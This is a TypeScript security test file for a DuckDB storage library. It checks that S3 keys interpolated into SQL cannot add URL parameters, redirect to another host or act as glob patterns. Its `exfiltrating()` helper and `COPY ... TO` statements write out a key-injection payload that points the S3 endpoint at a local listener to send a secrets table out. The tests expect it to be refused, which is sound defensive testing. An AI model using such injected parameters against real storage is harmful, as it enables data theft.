/**
 * A key interpolated into DuckDB SQL names exactly one object in its storage, on every backend:
 * no key adds URL parameters (the exfiltration of issue 11), changes the host, or expands as a
 * pattern. What is refused is refused before DuckDB sends anything; what is allowed round-trips
 * to the very key that was written.
 */
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { close, configure, ducklake, listS3Files, loadS3File, statS3File, writeS3File } from '../../src/index.js';
import { ensureExtensions } from '../helpers/ducklake.js';
import { caught } from '../helpers/ducklake.js';
import { BACKENDS, freshHome, newStorage, type BackendKind } from '../helpers/storage.js';

freshHome('sec-duckdb-urls');

let listener: Server;
let port = 0;
let connections = 0;
let extensionDirectory = '';

beforeAll(async () => {
  extensionDirectory = await ensureExtensions();
  listener = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as { port: number }).port;
});
afterAll(async () => {
  await close();
  await new Promise((resolve) => listener.close(resolve));
});

const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

describe.each(BACKENDS)('DuckDB URLs of keys on %s', (kind: BackendKind) => {
  beforeAll(async () => {
    // Each backend gets its own home: the default lake's catalog remembers its storage.
    freshHome(`sec-duckdb-urls-${kind}`);
    await configure({ storage: await newStorage(kind, 'sec'), duckdb: { extensionDirectory } });
    await writeS3File({ s3: 'users/a/x.csv' }, 'owner\na\n');
    await writeS3File({ s3: 'users/b/x.csv' }, 'owner\nb\n');
    // On fs this also writes the hidden sidecar under .millrace-meta/.
    await writeS3File({ s3: 'users/a/profile.json' }, '{"owner":"a"}', undefined, 'application/json');
    await ducklake()`CREATE OR REPLACE TABLE secrets_tbl AS SELECT 'hunter2' AS secret`.execute();
  });

  const exfiltrating = () => `exports/report.csv?s3_endpoint=127.0.0.1:${port}&s3_use_ssl=false`;

  it('a key with URL parameters cannot send a table elsewhere (record, URI, listS3Files record)', async () => {
    const before = connections;
    const forms = [
      { s3: exfiltrating() },
      `s3:///${exfiltrating()}`,
      { s3: exfiltrating(), size: 10, etag: '"x"', lastModified: new Date() },
    ];
    for (const target of forms) {
      const e = await caught(ducklake()`COPY (SELECT * FROM secrets_tbl) TO ${target} (FORMAT csv)`.execute());
      expect(e.code).toBe('InvalidS3Object');
      expect(e.message).toContain('?');
      const r = await caught(ducklake()`SELECT * FROM read_csv(${target})`.fetch());
      expect(r.code).toBe('InvalidS3Object');
    }
    // Give any stray connection time to land before counting.
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(connections - before).toBe(0);
    expect(await statS3File({ s3: 'exports/report.csv' })).toBeUndefined();
  });

  it.each(['users/*/x.csv', 'users/?/x.csv', 'users/[ab]/x.csv', '**/*.json', '*/**', 'users/a/*', 'users/a/x.csv*'])(
    'a key that is a pattern (%s) is refused before anything is read',
    async (key) => {
      const e = await caught(ducklake()`SELECT * FROM read_csv(${{ s3: key }})`.fetch());
      expect(e.code).toBe('InvalidS3Object');
      const j = await caught(ducklake()`SELECT * FROM read_json(${`s3:///${key}`})`.fetch());
      expect(j.code).toBe('InvalidS3Object');
    },
  );

  it('the same rules hold for s3:// literals written in the SQL text', async () => {
    const e = await caught(ducklake()`SELECT * FROM read_csv('s3:///users/*/x.csv')`.fetch());
    expect(e.code).toBe('InvalidS3Object');
    const q = await caught(ducklake().query(`COPY (SELECT * FROM secrets_tbl) TO 's3:///${exfiltrating()}' (FORMAT csv)`).execute());
    expect(q.code).toBe('InvalidS3Object');
    expect(await ducklake()`SELECT owner FROM read_csv('s3:///users/b/x.csv')`.fetchOneScalar()).toBe('b');
  });

  it("one user's key reads only that user's file", async () => {
    expect(await ducklake()`SELECT owner FROM read_csv(${{ s3: 'users/a/x.csv' }})`.fetch()).toEqual([{ owner: 'a' }]);
    // Braces are not a pattern in DuckDB: the key names the one (missing) object spelled that way.
    const e = await caught(ducklake()`SELECT owner FROM read_csv(${{ s3: 'users/{a,b}/x.csv' }})`.fetch());
    expect(e.code).not.toBe('InvalidS3Object');
  });

  it.each(['lit/h#b.csv', 'lit/p%20b.csv', 'lit/p%2Fc.csv', 'lit/br{x,y}.csv', 'lit/sp ace+plus&amp=.csv', 'lit/uni-é.csv'])(
    'a key with %s is written and read at exactly that key',
    async (key) => {
      await ducklake()`COPY (SELECT 42 AS n) TO ${{ s3: key }} (FORMAT csv)`.execute();
      expect(await statS3File({ s3: key })).toMatchObject({ size: 5 });
      expect(text(await loadS3File({ s3: key }))).toBe('n\n42\n');
      expect(await ducklake()`SELECT n FROM read_csv(${`s3:///${key}`})`.fetchOneScalar()).toBe(42);
      const listed: string[] = [];
      for await (const f of listS3Files({ prefix: 'lit/' })) listed.push(f.s3);
      expect(listed).toContain(key);
      // Nothing was decoded into another key: "%20" stays "%20", "%2F" is no folder.
      expect(listed.filter((k) => k !== key && decodeURIComponent(k) === decodeURIComponent(key))).toEqual([]);
    },
  );

  it('a listS3Files record binds as the object it lists', async () => {
    const rows: unknown[] = [];
    for await (const f of listS3Files({ prefix: 'users/' })) {
      if (f.s3.endsWith('.csv')) rows.push(await ducklake()`SELECT owner FROM read_csv(${f})`.fetchOneScalar());
    }
    expect(rows).toEqual(['a', 'b']);
    // Several at once: a list of records is a list of URLs, each under the same rules.
    const csvs = [];
    for await (const f of listS3Files({ prefix: 'users/' })) if (f.s3.endsWith('.csv')) csvs.push(f);
    expect(await ducklake()`SELECT owner FROM read_csv(${csvs}) ORDER BY owner`.fetch()).toEqual([{ owner: 'a' }, { owner: 'b' }]);
    const e = await caught(ducklake()`SELECT * FROM read_csv(${[...csvs, { s3: 'users/*/x.csv' }]})`.fetch());
    expect(e.code).toBe('InvalidS3Object');
  });
});
